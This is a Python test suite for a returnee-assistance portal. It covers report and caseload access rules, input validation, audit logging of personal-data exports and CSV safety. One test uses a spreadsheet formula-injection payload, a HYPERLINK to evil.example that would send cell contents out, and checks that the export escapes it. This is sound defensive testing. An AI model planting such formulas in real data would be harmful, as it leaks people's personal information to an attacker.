"""Who may see reports and exports, CSV safety, the export audit, caseload and reassignment."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from portal.models import AssistanceRequest, Event, RequestStatus, Role, User
from portal.reports.present import csv_lines, safe_cell
from tests.conftest import csrf_token

GET_URLS = [
    "/en/reports/",
    "/en/reports/?period=custom&start=2026-01-01&end=2026-01-31",
    "/en/reports/figures/requests_by_kind.csv",
    "/en/reports/figures/partner_referrals.csv?period=year",
    "/en/reports/cases",
    "/en/reports/monthly",
    "/en/reports/caseload/",
    "/en/reports/caseload/mine",
]
POST_URLS = ["/en/reports/cases", "/en/reports/caseload/reassign", "/en/reports/caseload/lead"]


@pytest.mark.parametrize("role", [Role.RETURNEE, Role.PARTNER])
def test_returnees_and_partners_get_403_everywhere(client, login_as, role):
    login_as(role)
    for url in GET_URLS:
        assert client.get(url).status_code == 403, url
    for url in POST_URLS:
        assert client.post(url, data={"personal": "1", "reason": "x"}).status_code == 403, url


def test_signed_out_people_are_sent_to_sign_in(client):
    for url in GET_URLS:
        response = client.get(url)
        assert response.status_code == 302 and "/sign-in" in response.headers["Location"], url


def test_social_worker_sees_reports_but_not_the_caseload_of_others(client, login_as):
    login_as(Role.SOCIAL_WORKER)
    for url in GET_URLS[:6] + ["/en/reports/caseload/mine"]:
        assert client.get(url).status_code == 200, url
    assert client.get("/en/reports/caseload/").status_code == 403
    token = csrf_token(client, "/en/reports/cases")
    reassign = client.post("/en/reports/caseload/reassign", data={"csrf_token": token})
    assert reassign.status_code == 403
    assert client.post("/en/reports/caseload/lead", data={"csrf_token": token}).status_code == 403
    personal = {"csrf_token": token, "personal": "1", "reason": "audit", "period": "year"}
    assert client.post("/en/reports/cases", data=personal).status_code == 403


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("period=custom&start=2026-02-01&end=2026-01-01", "The last day cannot be before"),
        ("period=custom&start=1999-12-31&end=2026-01-01", "between 2000 and 2100"),
        ("period=custom&start=2026-01-01&end=2101-01-01", "between 2000 and 2100"),
        ("period=custom&start=2010-01-01&end=2026-01-01", "at most three years"),
        ("period=custom&start=banana&end=2026-01-01", "Enter a date like"),
        ("period=custom&start=2026-01-01", "Enter the last day"),
        ("period=decade", "Choose a value from the list"),
        ("kind=pets", "Choose a value from the list"),
        ("region=atlantis", "Choose a value from the list"),
        ("partner=999999", "Choose a value from the list"),
        ("partner=%00", "The address contains characters that cannot be used"),
    ],
)
def test_bad_period_and_filters_get_a_clear_message(client, login_as, query, message):
    login_as(Role.SOCIAL_WORKER)
    page = client.get(f"/en/reports/?{query}")
    assert page.status_code == 400
    assert message in page.get_data(as_text=True)
    assert client.get(f"/en/reports/figures/outcomes.csv?{query}").status_code == 400


def test_bad_input_is_explained_in_azerbaijani_and_russian(client, login_as):
    login_as(Role.SOCIAL_WORKER)
    query = "period=custom&start=2026-02-01&end=2026-01-01"
    for lang in ("az", "ru"):
        page = client.get(f"/{lang}/reports/?{query}").get_data(as_text=True)
        assert "The last day cannot be before" not in page


def test_safe_cell_neutralises_every_formula_start():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert safe_cell("Bakı") == "Bakı"
    assert safe_cell(-5) == -5  # numbers stay numbers
    text = "".join(csv_lines(["a"], [["=1+1"], ["ok"]]))
    assert text == "\ufeffa\r\n'=1+1\r\nok\r\n"


def _rows(response):
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_case_export_neutralises_a_formula_typed_into_a_request(client, login_as, factory, db):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    owner = factory.user(Role.RETURNEE, full_name=evil)
    req = factory.request(owner=owner)
    db.get(AssistanceRequest, req.id).description = "@SUM(1+1)"
    db.commit()
    login_as(Role.ADMIN)
    token = csrf_token(client, "/en/reports/cases?period=year")
    response = client.post(
        "/en/reports/cases",
        data={"csrf_token": token, "period": "year", "personal": "1", "reason": "Ministry audit"},
    )
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    rows = _rows(response)
    assert rows[0][-3:] == ["Returnee", "Phone", "Description"]
    assert rows[1][0] == req.reference
    assert rows[1][-3] == "'" + evil
    assert rows[1][-1] == "'@SUM(1+1)"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_personal_export_needs_a_reason_and_is_recorded(client, login_as, factory, db):
    factory.request()
    admin = login_as(Role.ADMIN)
    token = csrf_token(client, "/en/reports/cases")
    data = {"csrf_token": token, "period": "year", "kind": "documentation", "personal": "1"}
    refused = client.post("/en/reports/cases", data={**data, "reason": "  "})
    assert refused.status_code == 400
    assert "Say why you need names and phone numbers" in refused.get_data(as_text=True)
    assert db.scalars(select(Event).where(Event.kind == "cases_exported")).all() == []
    client.post("/en/reports/cases", data={**data, "reason": "Funder report"}).get_data()
    event = db.scalars(select(Event).where(Event.kind == "cases_exported")).one()
    assert event.actor_id == admin.id
    assert event.data["personal"] is True
    assert event.data["reason"] == "Funder report"
    assert event.data["filters"] == {"kind": "documentation"}
    assert event.created_at is not None


def test_case_export_without_names_for_social_workers(client, login_as, factory, db):
    factory.request(owner=factory.user(Role.RETURNEE, full_name="Aysel Quliyeva"))
    login_as(Role.SOCIAL_WORKER)
    token = csrf_token(client, "/ru/reports/cases")
    response = client.post(
        "/ru/reports/cases", data={"csrf_token": token, "period": "year", "personal": "0"}
    )
    body = response.get_data(as_text=True)
    assert "Aysel" not in body and "+99450" not in body
    rows = _rows(response)
    assert len(rows) == 2 and len(rows[0]) == 17
    assert "Reference" not in rows[0]  # headers in the page's language
    event = db.scalars(select(Event).where(Event.kind == "cases_exported")).one()
    assert event.data["personal"] is False


def test_figure_csv_headers_follow_the_language(client, login_as):
    login_as(Role.SOCIAL_WORKER)
    en = _rows(client.get("/en/reports/figures/outcomes.csv"))[0]
    ru = _rows(client.get("/ru/reports/figures/outcomes.csv"))[0]
    az = _rows(client.get("/az/reports/figures/outcomes.csv"))[0]
    assert en == ["Outcome", "Requests"]
    assert ru != en and az != en and ru != az


# --- caseload --------------------------------------------------------------------------------


def test_my_requests_puts_what_needs_action_first(client, login_as, factory, db):
    me = login_as(Role.SOCIAL_WORKER)
    waiting = factory.request(status=RequestStatus.REFERRED, worker=me)
    review = factory.request(status=RequestStatus.IN_REVIEW, worker=me)
    factory.request(status=RequestStatus.IN_REVIEW)  # someone else's
    page = client.get("/en/reports/caseload/mine").get_data(as_text=True)
    assert page.index(review.reference) < page.index(waiting.reference)
    assert page.count("Your action") == 1


def test_lead_reassigns_with_one_event_per_request(client, login_as, factory, db):
    a = factory.user(Role.SOCIAL_WORKER, full_name="Worker A")
    b = factory.user(Role.SOCIAL_WORKER, full_name="Worker B")
    statuses = (RequestStatus.IN_REVIEW, RequestStatus.NEEDS_INFO, RequestStatus.REFERRED)
    moved = [factory.request(status=s, worker=a) for s in statuses]
    closed = factory.request(status=RequestStatus.IN_REVIEW, worker=a)
    from portal.services import requests as req_svc

    with factory.app.app_context():
        req_svc.close_request(db, closed, a, req_svc.CloseOutcome.DUPLICATE)
    db.commit()
    lead = login_as(Role.SOCIAL_WORKER)
    db.get(User, lead.id).is_team_lead = True
    db.commit()
    page = client.get("/en/reports/caseload/")
    assert page.status_code == 200 and "Worker A" in page.get_data(as_text=True)
    token = csrf_token(client, "/en/reports/caseload/")
    data = {"csrf_token": token, "from_worker": a.id, "to_worker": a.id}
    same = client.post("/en/reports/caseload/reassign", data=data)
    assert same.status_code == 400
    response = client.post(
        "/en/reports/caseload/reassign",
        data={"csrf_token": token, "from_worker": a.id, "to_worker": b.id, "scope": "all"},
    )
    assert response.status_code == 302
    db.expire_all()
    for r in moved:
        assert db.get(AssistanceRequest, r.id).assignee_id == b.id
    assert db.get(AssistanceRequest, closed.id).assignee_id == a.id
    events = db.scalars(
        select(Event).where(Event.kind == "assigned", Event.actor_id == lead.id)
    ).all()
    assert sorted(e.request_id for e in events) == sorted(r.id for r in moved)
    assert all(e.data == {"from": a.id, "to": b.id, "bulk": True} for e in events)


def test_admin_marks_a_team_lead_and_so_does_the_cli(client, login_as, factory, db, app):
    worker = factory.user(Role.SOCIAL_WORKER)
    login_as(Role.ADMIN)
    token = csrf_token(client, "/en/reports/caseload/")
    client.post("/en/reports/caseload/lead",
                data={"csrf_token": token, "worker_id": worker.id, "lead": "1"})  # fmt: skip
    db.expire_all()
    assert db.get(User, worker.id).is_team_lead is True
    result = app.test_cli_runner().invoke(args=["users", "set-lead", worker.email, "--off"])
    assert result.exit_code == 0, result.output
    db.expire_all()
    assert db.get(User, worker.id).is_team_lead is False
    kinds = db.scalars(
        select(Event.data).where(Event.kind == "team_lead_set").order_by(Event.id)
    ).all()
    assert [k["lead"] for k in kinds] == [True, False]


def test_a_personal_export_shows_in_each_returnees_list_of_who_saw_their_data(
    app, client, login_as, factory, db
):
    from tests.conftest import sign_in

    first = factory.request(owner=factory.user(Role.RETURNEE, full_name="Aysel Quliyeva"))
    factory.request(owner=first.owner)  # two requests, one person: one view
    other = factory.request()
    admin = login_as(Role.ADMIN, full_name="Rauf Admin")
    token = csrf_token(client, "/en/reports/cases")
    data = {"csrf_token": token, "period": "year", "personal": "1", "reason": "Funder report"}
    assert client.post("/en/reports/cases", data=data).status_code == 200
    views = db.scalars(select(Event).where(Event.kind == "viewed_export")).all()
    assert sorted(v.returnee_id for v in views) == sorted({first.owner_id, other.owner_id})
    assert {v.actor_id for v in views} == {admin.id}
    assert all(v.data["role"] == "admin" for v in views)
    # Without names no view of anyone's personal data is recorded.
    token = csrf_token(client, "/en/reports/cases")
    client.post("/en/reports/cases", data={**data, "csrf_token": token, "personal": "0"})
    assert len(db.scalars(select(Event).where(Event.kind == "viewed_export")).all()) == 2
    person = app.test_client()
    assert sign_in(person, first.owner.login).status_code == 302
    body = person.get(f"/en/my/requests/{first.reference}").get_data(as_text=True)
    section = body[body.index('id="seen-by"') :]
    assert "State Migration Service</strong>" in section and "an administrator" in section
    assert "Rauf Admin" not in section


def test_the_downloaded_case_export_has_the_rows_of_the_case_query(
    app, client, login_as, factory, db
):
    """On PostgreSQL the download is written by COPY; it holds exactly the cells the case
    query makes (read here row by row), quoting, formulas, Cyrillic and empty cells included."""
    from zoneinfo import ZoneInfo

    from portal.services import exports
    from portal.services import reports as svc

    tricky = 'Ad, "Soyad"\nикинчи сətir'
    owner = factory.user(Role.RETURNEE, full_name="-Мамедов, Эльчин")
    with_text = factory.request(owner=owner, status=RequestStatus.ASSISTANCE_PROVIDED)
    db.get(AssistanceRequest, with_text.id).description = tricky
    db.commit()
    factory.request(status=RequestStatus.CLOSED)
    factory.request(status=RequestStatus.NEEDS_INFO)
    login_as(Role.ADMIN)
    token = csrf_token(client, "/ru/reports/cases")
    data = {"csrf_token": token, "period": "year", "personal": "1", "reason": "Проверка"}
    response = client.post("/ru/reports/cases", data=data)
    assert response.status_code == 200
    downloaded = _rows(response)
    with app.test_request_context("/ru/reports/"):
        from flask import g

        g.lang_code = "ru"
        tz = ZoneInfo(app.config["BABEL_DEFAULT_TIMEZONE"])
        from portal.reports.routes import _today

        period = svc.period_of(svc.PeriodKind.YEAR, _today())
        header = exports.case_header(True)
        expected = [
            ["" if v is None else str(v) for v in row]
            for batch in exports.case_rows(
                app.extensions["db"].engine, db, period, svc.Filters(), tz, "ru", personal=True
            )
            for row in batch
        ]
    assert downloaded[0] == header
    assert downloaded[1:] == expected
    assert len(expected) == 3
    mine = next(r for r in downloaded if r[0] == with_text.reference)
    assert mine[-1] == tricky and mine[-3] == "'-Мамедов, Эльчин"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in downloaded for cell in row)
